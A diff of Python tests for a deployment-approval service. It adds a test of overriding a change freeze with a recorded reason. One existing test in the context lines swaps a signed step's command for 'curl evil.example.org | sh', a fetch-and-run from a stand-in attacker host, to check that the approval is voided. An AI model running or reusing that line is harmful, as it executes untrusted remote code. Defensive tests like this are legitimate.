@@ -217,6 +217,22 @@ class TestStart:
         with time_machine.travel(now + timedelta(days=1, minutes=1), tick=False):
             assert services.start(again(row), actor=world.actor).status == "deploying"
 
+    def test_freeze_passed_over__leaves_consent_as_it_is(
+        self, world: World, approved: Deployment, ready: Deployment
+    ) -> None:
+        world.sign(ready)
+        now = clock.now()
+        services.make_freeze(
+            world.workspace, actor=world.actor, title="Audit", reason="Auditors are here.",
+            starts_at=now - timedelta(hours=1), ends_at=now + timedelta(hours=1),
+        )  # fmt: skip
+        with pytest.raises(GateNotMet):
+            services.start(again(ready), actor=world.actor)
+        lead, why = world.lead, "The auditors asked for it."
+        started = services.start(again(ready), actor=lead, override=True, reason=why)
+        assert (started.status, there(started.approval).status) == ("deploying", "approved")
+        assert world.gate(started, "no-freeze").reason == why
+
     def test_consent__to_something_else__is_none(self, world: World, approved: Deployment) -> None:
         """However it came that what stands is not what was signed."""
         Step.objects.filter(deployment=approved).update(command="curl evil.example.org | sh")
